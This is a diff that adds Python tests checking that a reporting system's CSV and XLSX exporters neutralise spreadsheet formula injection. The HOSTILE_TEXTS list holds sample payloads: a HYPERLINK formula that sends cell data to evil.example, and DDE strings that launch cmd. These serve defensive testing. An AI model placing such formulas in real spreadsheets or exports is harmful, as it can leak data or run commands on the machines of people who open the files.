@@ -190,3 +190,52 @@ def test_xlsx_text_never_becomes_a_formula(official):
     assert rows[0][0].data_type == "s"
     assert rows[0][1].data_type == "s"
     assert rows[1][0].value == "bell\ufffd"
+
+
+# OWASP "CSV injection": what a spreadsheet would run as a formula when the cell starts with it.
+HOSTILE_TEXTS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _hostile_report():
+    from reporting.registry import Column, ColumnType, Report
+
+    return Report(
+        key="tests.hostile_csv",
+        title="Hostile",
+        capability="export",
+        columns=(Column("name", "Name"), Column("amount", "Amount", type=ColumnType.MONEY)),
+        rows=lambda *, user, params: iter(
+            [(text, Decimal("-5.00")) for text in HOSTILE_TEXTS] + [("Mario Rossi", Decimal("1.00"))]
+        ),
+        count=lambda *, user, params: len(HOSTILE_TEXTS) + 1,
+    )
+
+
+def test_csv_neutralises_formula_injection_in_text_but_keeps_numbers(official):
+    document = build_document(report=_hostile_report(), user=official, params={})
+    buffer = io.BytesIO()
+    get_renderer("csv").write(document, buffer)
+    rows = list(csv.reader(io.StringIO(buffer.getvalue().decode("utf-8"))))[1:]
+    # Each hostile value is kept whole, behind a single quote: a spreadsheet shows it as text.
+    assert [r[0] for r in rows] == [f"'{text}" for text in HOSTILE_TEXTS] + ["Mario Rossi"]
+    assert {r[1] for r in rows[:-1]} == {"-5.00"}  # a negative amount is a number, not a formula
+
+
+def test_xlsx_keeps_every_formula_like_value_as_text(official):
+    document = build_document(report=_hostile_report(), user=official, params={})
+    buffer = io.BytesIO()
+    get_renderer("xlsx").write(document, buffer)
+    buffer.seek(0)
+    sheet = load_workbook(buffer).active
+    header = int(sheet.freeze_panes[1:]) - 1
+    cells = [row[0] for row in sheet.iter_rows(min_row=header + 1, max_row=header + len(HOSTILE_TEXTS))]
+    # As typed, no quote added (the cell is typed text); XML reads a lone carriage return as a newline.
+    assert [c.value for c in cells] == [t.replace("\r", "\n") for t in HOSTILE_TEXTS]
+    assert {c.data_type for c in cells} == {"s"}
